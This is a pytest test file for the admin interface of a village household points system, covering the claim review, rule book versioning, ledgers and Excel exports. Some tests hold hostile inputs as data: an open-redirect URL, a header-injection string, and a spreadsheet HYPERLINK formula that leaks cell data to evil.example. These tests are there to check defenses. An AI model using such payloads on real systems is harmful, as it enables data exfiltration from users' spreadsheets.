"""Points in the admin UI: the review queue (评议), the rule book editor, a household's ledger, a village's balances."""

from __future__ import annotations

import random
import re
from datetime import date, timedelta
from io import BytesIO
from zipfile import ZipFile

import pytest
import time_machine
from openpyxl import load_workbook
from sqlalchemy import func, select

from backend.auth.models import User
from backend.auth.passwords import hash_password
from backend.auth.scope import scope_for
from backend.crypto import mask_name
from backend.demo.photos import demo_photo
from backend.org.models import Grid, Household, Resident, Village
from backend.photos.service import attach_photos, process_photo
from backend.points.claims import approve_claim
from backend.points.ledger import ensure_account, post_entry
from backend.points.models import Claim, ClaimSource, ClaimStatus, EntryKind, LedgerEntry, PointsAccount, RuleBook
from backend.points.rules import active_rule_book, install_preset
from backend.timeutil import today_local
from tests.admin_helpers import PASSWORD, count_queries, html, post_form, post_login
from tests.factories import World, make_household
from tests.xlsx import read_xlsx

TODAY = today_local()
TOMORROW = TODAY + timedelta(days=1)
CLAIM_ROW = re.compile(r'name="claim_id" value="(\d+)"')


def add_claim(s, world: World, household: str, item: str, *, on: date = TODAY, note: str = "") -> int:  # type: ignore[no-untyped-def]
    """A pending claim as the phone would leave it (the API is tested elsewhere)."""
    household_row = s.get(Household, world.ids[household])
    book = active_rule_book(s, household_row.village_id, on)
    rule_item = next(i for i in book.items if i.code == item)
    claim = Claim(
        household_id=household_row.id,
        village_id=household_row.village_id,
        rule_item_id=rule_item.id,
        occurred_on=on,
        note=note,
        source=ClaimSource.self_declared,
        submitted_by_id=world.ids["user:villager"],
    )
    s.add(claim)
    s.flush()
    return claim.id


def queue_ids(page: str) -> set[int]:
    return {int(i) for i in CLAIM_ROW.findall(page)}


def head_name(s, household_id: int) -> str:  # type: ignore[no-untyped-def]
    return s.scalar(select(Resident.name).where(Resident.household_id == household_id, Resident.is_head.is_(True)))


# --- 评议: who sees what ---------------------------------------------------------------------------


def test_reviewer_sees_only_their_village_and_town_admin_their_town(admin, database, world) -> None:
    with database() as s:
        v2 = add_claim(s, world, "H3", "P01")
        v3 = add_claim(s, world, "H4", "P01")
        raw_name = head_name(s, world.ids["H1"])
    own = world.ids["claim"]

    page = html(admin("reviewer").get("/admin/points/review"))
    assert queue_ids(page) == {own}
    assert mask_name(raw_name) in page and raw_name not in page
    assert "救起落水儿童" in page and "P09" in page and "0/1 同意" in page

    assert queue_ids(html(admin("town_admin").get("/admin/points/review"))) == {own, v2}
    assert queue_ids(html(admin("county_admin").get("/admin/points/review"))) == {own, v2, v3}
    assert queue_ids(html(admin("county_admin_other").get("/admin/points/review"))) == set()


def test_the_queue_shows_evidence_photos_as_thumbnails_without_extra_queries_per_claim(
    app, admin, database, world
) -> None:
    client = admin("reviewer")
    client.get("/admin/points/review")
    with count_queries(app) as before:
        client.get("/admin/points/review")
    with database() as s:
        villager = s.get(User, world.ids["user:villager"])
        scope = scope_for(s, villager)
        rng = random.Random(3)
        for claim_id in (world.ids["claim"], add_claim(s, world, "H1", "P01")):
            taken = [demo_photo(s, rng, user=villager, scope=scope) for _ in range(2)]
            attach_photos(s, actor=scope, photo_ids=[p.id for p in taken], owner_type="claim", owner_id=claim_id)
            for photo in taken:
                process_photo(s, photo.id)
    with count_queries(app) as after:
        page = html(client.get("/admin/points/review"))
    assert page.count('<a class="photo"') == 4 and page.count("<img") == 4
    thumb = re.search(r'<img src="([^"]+)"', page).group(1)
    assert client.get(thumb).status_code == 200
    assert len(after) == len(before)  # the photos of the whole page come in one query, with or without photos


def test_an_outsider_gets_403_on_approve_and_reject_and_the_claim_stays_pending(admin, database, world) -> None:
    claim_id = world.ids["claim"]
    for outsider in ("reviewer_other", "town_admin_other", "county_admin_other"):
        client = admin(outsider)
        assert post_form(client, f"/admin/points/claims/{claim_id}/approve", {}).status_code == 403
        assert post_form(client, f"/admin/points/claims/{claim_id}/reject", {"reason": "不属实"}).status_code == 403
    with database() as s:
        assert s.get(Claim, claim_id).status == ClaimStatus.pending
        assert s.scalar(select(func.count(LedgerEntry.id))) == 0


def test_approving_credits_the_household_and_moves_the_claim_to_history(admin, database, world) -> None:
    client = admin("reviewer")
    response = post_form(client, f"/admin/points/claims/{world.ids['claim']}/approve", {"back": "/admin/points/review"})
    assert response.status_code == 302 and response.headers["Location"].endswith("/admin/points/review")
    page = html(client.get("/admin/points/review"))
    assert f"已同意 1 条申报（编号 {world.ids['claim']}）" in page
    assert queue_ids(page) == set()
    history = html(client.get("/admin/points/review/history"))
    assert "已通过" in history and "见义勇为" in history and "（同意）" in history
    with database() as s:
        assert s.get(PointsAccount, world.ids["H1"]).balance == 110


def test_the_back_link_never_leaves_the_review_pages(admin, world) -> None:
    response = post_form(
        admin("reviewer"), f"/admin/points/claims/{world.ids['claim']}/approve", {"back": "https://evil.example/x"}
    )
    assert response.headers["Location"].endswith("/admin/points/review")


@pytest.mark.parametrize("back", ["/admin/points/review\nX-Injected: 1", "/admin/points/review?q=王"])
def test_a_back_link_no_header_can_carry_returns_to_the_queue_not_a_500(admin, world, back) -> None:
    response = post_form(admin("reviewer"), f"/admin/points/claims/{world.ids['claim']}/approve", {"back": back})
    assert response.status_code == 302
    assert response.headers["Location"].endswith("/admin/points/review")


def test_rejecting_needs_a_reason_and_shows_it_in_history(admin, database, world) -> None:
    client = admin("reviewer")
    url = f"/admin/points/claims/{world.ids['claim']}/reject"
    post_form(client, url, {"reason": " "})
    page = html(client.get("/admin/points/review"))
    assert "驳回必须填写理由" in page and queue_ids(page) == {world.ids["claim"]}

    post_form(client, url, {"reason": "缺少旁证材料"})
    assert queue_ids(html(client.get("/admin/points/review"))) == set()
    history = html(client.get("/admin/points/review/history"))
    assert "已驳回" in history and "缺少旁证材料" in history
    with database() as s:
        claim = s.get(Claim, world.ids["claim"])
        assert (claim.status, claim.reject_reason) == (ClaimStatus.rejected, "缺少旁证材料")


def test_batch_approve_reports_the_claims_that_went_through_and_why_another_failed(admin, database, world) -> None:
    # P03 美丽庭院 is capped at once a month: the second of two P03 claims in one month must fail.
    month_start = TODAY.replace(day=1) - timedelta(days=40)
    with database() as s:
        first = add_claim(s, world, "H2", "P03", on=month_start.replace(day=1))
        capped = add_claim(s, world, "H2", "P03", on=month_start.replace(day=2))
    client = admin("reviewer")
    response = post_form(
        client, "/admin/points/claims/batch-approve", {"claim_id": [first, capped, world.ids["claim"]]}
    )
    assert response.status_code == 302
    page = html(client.get("/admin/points/review"))
    assert f"已同意 2 条申报（编号 {world.ids['claim']}、{first}）" in page
    assert f"编号 {capped}：该事项本周期已达上限" in page
    assert queue_ids(page) == {capped}
    with database() as s:
        assert s.get(Claim, first).status == ClaimStatus.approved
        assert s.get(Claim, capped).status == ClaimStatus.pending
        # The refused claim left no half-recorded review behind (its savepoint rolled back).
        assert s.get(Claim, capped).reviews == []


def test_batch_approve_reports_claims_outside_the_reviewers_village(admin, database, world) -> None:
    with database() as s:
        elsewhere = add_claim(s, world, "H3", "P01")
    client = admin("reviewer")
    post_form(client, "/admin/points/claims/batch-approve", {"claim_id": [world.ids["claim"], elsewhere]})
    page = html(client.get("/admin/points/review"))
    assert f"已同意 1 条申报（编号 {world.ids['claim']}）" in page
    assert f"编号 {elsewhere}：无权访问该范围的数据" in page
    with database() as s:
        assert s.get(Claim, elsewhere).status == ClaimStatus.pending


def test_quorum_progress_shows_approvals_so_far(admin, database, world) -> None:
    with database() as s:
        village = s.get(Village, world.ids["V1"])
        book = install_preset(s, village, "gaoyang", effective_from=TODAY - timedelta(days=10))
        book.review_quorum = 2
        s.flush()
        claim_id = add_claim(s, world, "H2", "P01")
    post_form(admin("reviewer"), f"/admin/points/claims/{claim_id}/approve", {})
    page = html(admin("town_admin").get("/admin/points/review"))
    assert "还需其他评议成员同意" not in page  # that note went to the reviewer, not here
    row = page[page.index(f'value="{claim_id}"') :]
    assert "1/2 同意" in row[:3000]
    post_form(admin("town_admin"), f"/admin/points/claims/{claim_id}/approve", {})
    with database() as s:
        assert s.get(Claim, claim_id).status == ClaimStatus.approved


def test_queue_filters_by_village_kind_and_month(admin, database, world) -> None:
    last_month = TODAY.replace(day=1) - timedelta(days=1)
    with database() as s:
        negative = add_claim(s, world, "H2", "N01")
        older = add_claim(s, world, "H3", "P01", on=last_month)
    client = admin("town_admin")
    assert queue_ids(html(client.get("/admin/points/review?kind=negative"))) == {negative}
    assert queue_ids(html(client.get(f"/admin/points/review?month={last_month:%Y-%m}"))) == {older}
    assert queue_ids(html(client.get(f"/admin/points/review?village={world.ids['V2']}"))) == {older}
    assert client.get(f"/admin/points/review?village={world.ids['V3']}").status_code == 403
    assert client.get("/admin/points/review?month=2026-13").status_code == 422


def test_queue_and_history_export_to_excel(admin, database, world) -> None:
    with database() as s:
        raw_name = head_name(s, world.ids["H1"])
    client = admin("reviewer")
    rows = read_xlsx(client.get("/admin/points/review?format=xlsx"))
    assert rows[0][:4] == ["编号", "行政村", "户号", "户主"]
    assert rows[0][-1] == "已同意/需同意"
    assert rows[1][0] == world.ids["claim"] and rows[1][3] == mask_name(raw_name)
    assert rows[1][6] == 10 and rows[1][-1] == "0/1"
    post_form(client, f"/admin/points/claims/{world.ids['claim']}/reject", {"reason": "照片不清晰"})
    history = read_xlsx(client.get("/admin/points/review/history?format=xlsx"))
    assert len(history) == 2 and history[1][11] == "已驳回" and history[1][13] == "照片不清晰"
    assert raw_name not in str(history)


def test_a_claim_note_that_looks_like_a_formula_is_exported_as_plain_text(admin, database, world) -> None:
    hostile = '=HYPERLINK("http://evil.example/?leak="&B2,"点此查看证明")'
    with database() as s:
        claim_id = add_claim(s, world, "H1", "P06", note=hostile)
        add_claim(s, world, "H2", "P06", note="-5 分是误扣，请核实")
    response = admin("reviewer").get("/admin/points/review?format=xlsx")
    sheet = load_workbook(BytesIO(response.data)).worksheets[0]
    notes = {row[0].value: row[9] for row in sheet.iter_rows(min_row=2)}
    assert notes[claim_id].value == hostile and notes[claim_id].data_type == "s", "text, not a formula Excel runs"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert b"<f>" not in ZipFile(BytesIO(response.data)).read("xl/worksheets/sheet1.xml")
    assert "-5 分是误扣，请核实" in {cell.value for cell in notes.values()}


def test_queue_page_needs_the_same_number_of_queries_for_2_or_12_claims(app, admin, database, world) -> None:
    client = admin("county_admin")
    client.get("/admin/points/review")

    def queries() -> int:
        with count_queries(app) as statements:
            assert client.get("/admin/points/review").status_code == 200
        return len(statements)

    with database() as s:
        add_claim(s, world, "H3", "P01")
    few = queries()
    with database() as s:
        village = s.get(Village, world.ids["V3"])
        grid = s.scalar(select(Grid).where(Grid.village_id == village.id))
        for n in range(10):
            household = make_household(s, village, grid, f"1{n:02d}")
            world.ids[f"extra{n}"] = household.id
            add_claim(s, world, f"extra{n}", "P01")
    assert queries() == few


# --- 积分规则: versions and who may edit ---------------------------------------------------------


def rule_book_id(page: str) -> int:
    match = re.search(r'/admin/points/rulebooks/(\d+)"', page)
    assert match
    return int(match.group(1))


def editor_form(page: str) -> dict[str, object]:
    """The editor's fields as the browser would submit them unchanged (checked boxes, selected options)."""
    data: dict[str, object] = {}
    for name, value in re.findall(r'<input type="(?:hidden|text|number|date)" name="([^"]+)" value="([^"]*)"', page):
        data[name] = value
    for name, value in re.findall(r'<input type="checkbox" name="([^"]+)" value="([^"]*)" checked', page):
        data[name] = value
    for name, options in re.findall(r'<select name="([^"]+)">(.*?)</select>', page, flags=re.S):
        chosen = re.search(r'<option value="([^"]*)" selected', options)
        first = re.search(r'<option value="([^"]*)"', options)
        data[name] = (chosen or first).group(1)
    data.pop("csrf_token", None)
    return data


def start_version(client, level: str, owner_id: int, on: date):  # type: ignore[no-untyped-def]
    return post_form(client, f"/admin/points/rules/{level}/{owner_id}/versions", {"effective_from": on.isoformat()})


def test_rule_page_shows_the_inherited_book_in_force_and_its_versions(admin, world) -> None:
    page = html(admin("reviewer").get("/admin/points/rules"))
    assert "本村今日执行" in page and "村民积分管理办法（高阳模式）" in page
    assert "没有本级规则，沿用上级" in page and "县级：青山县" in page
    assert "新建版本" not in page  # the review panel applies rules, it does not write them


def test_county_admin_creates_edits_and_saves_a_future_version(admin, database, world) -> None:
    client = admin("county_admin")
    response = start_version(client, "county", world.ids["C1"], TOMORROW)
    assert response.status_code == 302
    book_id = int(response.headers["Location"].rsplit("/", 1)[1])
    page = html(client.get(f"/admin/points/rulebooks/{book_id}"))
    assert "保存本版本" in page and page.count('name="item-') > 48 * 5

    form = editor_form(page)
    assert form["item-0-code"] == "P01"
    form["item-0-title"] = "打扫公共区域卫生"
    form["item-0-points"] = "3"
    form["item-1-remove"] = "1"
    form["item-48-title"] = "参加移风易俗宣讲"
    form["item-48-points"] = "4"
    form["item-48-cap_count"] = "2"
    form["item-48-cap_period"] = "month"
    form["review_quorum"] = "2"
    assert post_form(client, f"/admin/points/rulebooks/{book_id}", form).status_code == 302

    with database() as s:
        book = s.get(RuleBook, book_id)
        assert (book.version, book.review_quorum, len(book.items)) == (2, 2, 48)
        by_code = {i.code: i for i in book.items}
        assert (by_code["P01"].title, by_code["P01"].points) == ("打扫公共区域卫生", 3)
        assert "P02" not in by_code
        assert (by_code["P26"].title, by_code["P26"].cap_count) == ("参加移风易俗宣讲", 2)
        # Version 1 is untouched: claims judged by it keep their item.
        old = s.scalar(select(RuleBook).where(RuleBook.owner == f"county:{world.ids['C1']}", RuleBook.version == 1))
        assert {i.code: i.points for i in old.items}["P01"] != 3 and len(old.items) == 48


def test_a_version_cannot_start_today_or_in_the_past(admin, database, world) -> None:
    client = admin("county_admin")
    assert start_version(client, "county", world.ids["C1"], TODAY).status_code == 422
    assert start_version(client, "county", world.ids["C1"], TODAY - timedelta(days=3)).status_code == 422
    book_id = int(start_version(client, "county", world.ids["C1"], TOMORROW).headers["Location"].rsplit("/", 1)[1])
    form = editor_form(html(client.get(f"/admin/points/rulebooks/{book_id}")))
    form["effective_from"] = TODAY.isoformat()
    form["item-0-title"] = "打扫公共区域卫生"
    form["item-48-title"] = "参加移风易俗宣讲"
    refused = post_form(client, f"/admin/points/rulebooks/{book_id}", form)
    page = html(refused)
    # The editor comes back as typed, with the reason; nothing was saved.
    assert refused.status_code == 422 and "生效日期必须晚于今天" in page
    assert 'value="打扫公共区域卫生"' in page and 'value="参加移风易俗宣讲"' in page
    with database() as s:
        book = s.get(RuleBook, book_id)
        assert book.effective_from == TOMORROW and book.items[0].title != "打扫公共区域卫生" and len(book.items) == 48


def test_a_cap_needs_both_count_and_period(admin, database, world) -> None:
    client = admin("county_admin")
    book_id = int(start_version(client, "county", world.ids["C1"], TOMORROW).headers["Location"].rsplit("/", 1)[1])
    form = editor_form(html(client.get(f"/admin/points/rulebooks/{book_id}")))
    form["item-8-cap_count"] = "3"  # P09 has no cap period
    refused = post_form(client, f"/admin/points/rulebooks/{book_id}", form)
    assert refused.status_code == 422 and "第 9 个事项：上限次数与周期须同时填写" in html(refused)


def test_a_version_in_force_is_read_only(admin, database, world) -> None:
    client = admin("county_admin")
    with database() as s:
        in_force = active_rule_book(s, world.ids["V1"], TODAY).id
    page = html(client.get(f"/admin/points/rulebooks/{in_force}"))
    assert "保存本版本" not in page and "已生效，只读" in page
    response = post_form(client, f"/admin/points/rulebooks/{in_force}", {"item_count": "0", "title": "x"})
    assert response.status_code == 409
    assert post_form(client, f"/admin/points/rulebooks/{in_force}/discard", {}).status_code == 409


def test_who_may_write_which_book(admin, world) -> None:
    town = admin("town_admin")
    assert start_version(town, "county", world.ids["C1"], TOMORROW).status_code == 403
    assert start_version(town, "town", world.ids["T2"], TOMORROW).status_code == 403
    assert start_version(town, "village", world.ids["V3"], TOMORROW).status_code == 403
    assert start_version(town, "town", world.ids["T1"], TOMORROW).status_code == 302
    assert start_version(town, "village", world.ids["V1"], TOMORROW).status_code == 302
    assert start_version(admin("reviewer"), "village", world.ids["V1"], TOMORROW).status_code == 403
    assert start_version(admin("county_admin_other"), "village", world.ids["V1"], TOMORROW).status_code == 403
    assert start_version(admin("county_admin"), "village", world.ids["V3"], TOMORROW).status_code == 302


def test_a_new_version_changes_claims_from_its_date_but_not_those_judged_by_the_old_one(
    app, admin, database, world
) -> None:
    client = admin("town_admin")
    book_id = int(start_version(client, "village", world.ids["V1"], TOMORROW).headers["Location"].rsplit("/", 1)[1])
    form = editor_form(html(client.get(f"/admin/points/rulebooks/{book_id}")))
    p09 = next(k for k, v in form.items() if v == "P09").removesuffix("code")
    form[p09 + "points"] = "30"
    post_form(client, f"/admin/points/rulebooks/{book_id}", form)
    post_form(admin("reviewer"), f"/admin/points/claims/{world.ids['claim']}/approve", {})

    with time_machine.travel(TODAY + timedelta(days=2), tick=False), database() as s:
        later = add_claim(s, world, "H1", "P09", on=TODAY + timedelta(days=2))
        reviewer = s.get(User, world.ids["user:reviewer"])
        approve_claim(s, scope_for(s, reviewer), reviewer, later)
    with database() as s:
        entries = s.scalars(
            select(LedgerEntry).where(LedgerEntry.household_id == world.ids["H1"]).order_by(LedgerEntry.id)
        ).all()
        assert [(e.kind, e.amount) for e in entries] == [
            (EntryKind.base, 100),
            (EntryKind.earn, 10),
            (EntryKind.earn, 30),
        ]
        assert [e.rule_item.rule_book.version for e in entries[1:]] == [1, 1]  # county v1, village v1
        assert entries[2].rule_item.rule_book.village_id == world.ids["V1"]
        assert s.get(Claim, world.ids["claim"]).rule_item.points == 10

    page = html(admin("reviewer").get(f"/admin/households/{world.ids['H1']}/points"))
    assert page.count("第 1 版") == 2


def test_a_version_exports_to_excel(admin, database, world) -> None:
    with database() as s:
        book_id = active_rule_book(s, world.ids["V1"], TODAY).id
    rows = read_xlsx(admin("reviewer").get(f"/admin/points/rulebooks/{book_id}?format=xlsx"))
    assert rows[0] == ["编号", "类别", "事项", "分值", "需照片佐证", "上限次数", "上限周期"]
    assert len(rows) == 49
    assert rows[1][:2] == ["P01", "正面清单"]
    assert any(r[1] == "负面清单" and r[3] < 0 for r in rows[1:])
    assert admin("county_admin_other").get(f"/admin/points/rulebooks/{book_id}?format=xlsx").status_code == 403


def test_an_unsaved_draft_can_be_discarded(admin, database, world) -> None:
    client = admin("county_admin")
    book_id = int(start_version(client, "county", world.ids["C1"], TOMORROW).headers["Location"].rsplit("/", 1)[1])
    assert post_form(client, f"/admin/points/rulebooks/{book_id}/discard", {}).status_code == 302
    with database() as s:
        assert s.get(RuleBook, book_id) is None


# --- A household's ledger and the village overview --------------------------------------------------


def approve_via_ui(admin, claim_id: int) -> None:  # type: ignore[no-untyped-def]
    assert post_form(admin("reviewer"), f"/admin/points/claims/{claim_id}/approve", {}).status_code == 302


def test_household_ledger_shows_balance_entries_and_trend_masked_and_scoped(admin, database, world) -> None:
    with database() as s:
        deduction = add_claim(s, world, "H1", "N01")
        raw_name = head_name(s, world.ids["H1"])
    approve_via_ui(admin, world.ids["claim"])
    approve_via_ui(admin, deduction)
    household_page = html(admin("reviewer").get(f"/admin/households/{world.ids['H1']}"))
    assert f"/admin/households/{world.ids['H1']}/points" in household_page

    page = html(admin("reviewer").get(f"/admin/households/{world.ids['H1']}/points"))
    assert mask_name(raw_name) in page and raw_name not in page
    assert "<b>107</b><span>可用积分" in page  # base 100 + P09 10 − N01 3
    assert f"<b>10</b><span>{TODAY:%Y-%m} 加分" in page and f"<b>3</b><span>{TODAY:%Y-%m} 扣分" in page
    assert "基础分" in page and "加分" in page and "扣分" in page and "见义勇为" in page
    assert "村评议小组" in page  # the actor
    month = f"{TODAY:%Y-%m}"
    assert f"<title>{month}：加 10 分" in page and page.count('<rect class="earned"') == 12

    assert admin("reviewer_other").get(f"/admin/households/{world.ids['H1']}/points").status_code == 403
    assert admin("county_admin_other").get(f"/admin/households/{world.ids['H1']}/points").status_code == 403


def test_household_ledger_filters_by_month_and_exports(admin, database, world) -> None:
    approve_via_ui(admin, world.ids["claim"])
    client = admin("town_admin")
    month = f"{TODAY:%Y-%m}"
    assert "见义勇为" in html(client.get(f"/admin/households/{world.ids['H1']}/points?month={month}"))
    assert "暂无积分记录" in html(client.get(f"/admin/households/{world.ids['H1']}/points?month=2001-01"))
    rows = read_xlsx(client.get(f"/admin/households/{world.ids['H1']}/points?format=xlsx"))
    assert rows[0][:3] == ["时间", "记账月份", "类型"]
    assert [(r[2], r[3], r[5], r[8]) for r in rows[1:]] == [("基础分", 100, 100, None), ("加分", 10, 110, 1)]


def test_ledger_page_needs_the_same_number_of_queries_for_few_or_many_entries(app, admin, database, world) -> None:
    client = admin("reviewer")
    url = f"/admin/households/{world.ids['H1']}/points"
    approve_via_ui(admin, world.ids["claim"])
    client.get(url)
    with count_queries(app) as statements:
        client.get(url)
    few = len(statements)
    with database() as s:
        ids = [add_claim(s, world, "H1", code) for code in ("P01", "P02", "P04", "P05", "N02", "N03")]
    for claim_id in ids:
        approve_via_ui(admin, claim_id)
    with count_queries(app) as statements:
        assert client.get(url).status_code == 200
    assert len(statements) == few


def test_a_household_ledger_of_many_entries_opens_on_its_second_page_with_links_back(admin, database, world) -> None:
    household_id = world.ids["H1"]
    with database() as s:
        household = s.get(Household, household_id)
        ensure_account(s, household, 100)  # entry 1: 基础分
        for n in range(1, 25):  # entries 2–25
            post_entry(
                s,
                household_id=household_id,
                village_id=household.village_id,
                kind=EntryKind.correction,
                amount=1,
                source_type="objection",
                source_id=n,
                actor_id=None,
                reason=f"补录第{n:02d}笔",
            )
    url = f"/admin/households/{household_id}/points"
    client = admin("reviewer")
    response = client.get(f"{url}?page=2")
    assert response.status_code == 200
    page = html(response)
    assert "第 21–25 条，共 25 条" in page
    assert "基础分" in page and "补录第04笔" in page and "补录第05笔" not in page  # newest first: the oldest five
    assert f'href="{url}?page=1" rel="prev"' in page

    month = f"{TODAY:%Y-%m}"
    first = html(client.get(f"{url}?month={month}"))
    assert "补录第24笔" in first and "补录第04笔" not in first
    assert f'href="{url}?month={month}&amp;page=2" rel="next"' in first


def test_village_overview_lists_every_household_sortable_and_exports(admin, database, world) -> None:
    with database() as s:
        deduction = add_claim(s, world, "H2", "N01")
    approve_via_ui(admin, world.ids["claim"])
    approve_via_ui(admin, deduction)
    client = admin("reviewer")
    page = html(client.get("/admin/points/overview"))
    order = [page.index(f">{n}</a>") for n in ("001", "003", "002")]  # 110, 100 (base), 100 − N01
    assert order == sorted(order)
    low_first = html(client.get("/admin/points/overview?sort=-balance"))
    assert low_first.index(">002</a>") < low_first.index(">001</a>")

    rows = read_xlsx(client.get("/admin/points/overview?format=xlsx"))
    assert rows[0][:3] == ["户号", "户主", "可用积分"]
    assert [r[0] for r in rows[1:]] == ["001", "003", "002"]
    assert rows[1][2] == 110 and rows[1][4] == 10 and rows[2][2] == 100
    assert client.get(f"/admin/points/overview?village={world.ids['V2']}").status_code == 403


# --- The demo county -------------------------------------------------------------------------------


def test_demo_county_has_claims_waiting_with_photos_and_a_scheduled_rule_version(app, database, demo_county) -> None:
    with database() as s:
        reviewer = s.scalar(select(User).where(User.role == "reviewer").order_by(User.village_id).limit(1))
        reviewer.password_hash = hash_password(PASSWORD)
        username, village_id = reviewer.username, reviewer.village_id
        pending = s.scalar(
            select(func.count(Claim.id)).where(Claim.village_id == village_id, Claim.status == ClaimStatus.pending)
        )
    client = app.test_client()
    post_login(client, username, PASSWORD)
    page = html(client.get("/admin/points/review"))
    assert pending >= 5 and len(queue_ids(page)) == pending
    assert page.count('<a class="photo"') + page.count("photo-missing") >= 2 * 5
    assert "<b>0</b><span>" not in html(client.get("/admin/points/overview"))
    assert "待生效" in html(client.get(f"/admin/points/rules?village={village_id}"))


def test_a_batch_approval_with_a_mangled_claim_id_approves_only_the_real_ones(admin, database, world) -> None:
    client = admin("reviewer")
    response = post_form(
        client, "/admin/points/claims/batch-approve", {"claim_id": ["²", "9" * 30, world.ids["claim"]]}
    )
    assert response.status_code == 302
    with database() as s:
        assert s.get_one(Claim, world.ids["claim"]).status == ClaimStatus.approved


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"item-0-code": "P" + "1" * 30}, "第 1 个事项：事项编号无效"),
        ({"item-0-code": "P²"}, "第 1 个事项：事项编号无效"),
        ({"item-0-points": "٣"}, "分值应为整数"),
        ({"item-8-cap_count": "2147483648", "item-8-cap_period": "month"}, "上限次数超出范围"),
    ],
)
def test_an_editor_row_with_a_foreign_code_or_number_is_refused_with_a_message_not_a_500(
    admin, database, world, changes, message
) -> None:
    client = admin("county_admin")
    book_id = int(start_version(client, "county", world.ids["C1"], TOMORROW).headers["Location"].rsplit("/", 1)[1])
    form = {**editor_form(html(client.get(f"/admin/points/rulebooks/{book_id}"))), **changes}
    refused = post_form(client, f"/admin/points/rulebooks/{book_id}", form)
    assert refused.status_code == 422 and message in html(refused)
    with database() as s:
        assert [item.code for item in s.get_one(RuleBook, book_id).items][:2] == ["P01", "P02"]
